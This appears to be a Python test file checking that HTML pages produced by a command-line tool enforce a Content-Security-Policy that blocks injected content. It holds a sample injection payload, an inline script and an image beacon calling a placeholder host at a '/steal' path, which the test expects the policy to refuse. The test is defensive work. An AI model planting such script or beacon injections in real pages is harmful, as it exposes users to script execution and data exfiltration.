"""A script or an image slipped into a page (were an escape ever missed) neither runs nor loads:
the page's Content-Security-Policy allows its own scripts only, and nothing from outside."""

from __future__ import annotations

import shutil

from click.testing import CliRunner
from helpers import ROOT

from treasure_cli.cli import cli

SLIPPED = ('<script>document.title = "pwned"</script>'
           '<img id="beacon" src="https://example.invalid/steal?what=map">')


def test_a_slipped_script_does_not_run_and_a_beacon_does_not_load(tmp_path, watched):
    shutil.copy(ROOT / "input" / "MAP_01.txt", tmp_path / "MAP_01.txt")
    ran = CliRunner().invoke(cli, ["run", str(tmp_path / "MAP_01.txt"), str(tmp_path / "out"), "--html"])
    assert ran.exit_code == 0, ran.output
    page = tmp_path / "out" / "LOG_01.html"
    page.write_text(page.read_text().replace("</body>", SLIPPED + "</body>"))
    refused: list[tuple[str, str | None]] = []
    watched.page.on("requestfailed", lambda r: refused.append((r.url, r.failure)))
    watched.open(page)
    watched.settled()
    assert watched.page.title() != "pwned"
    # the beacon is refused by the page itself ("csp"), before any network (where the test's route
    # would refuse it too)
    assert refused == [("https://example.invalid/steal?what=map", "csp")]
    assert int(watched.status()["total"]) > 0  # while the page's own script runs: its player is ready
    assert any("violates the following Content Security Policy" in e for e in watched.errors)
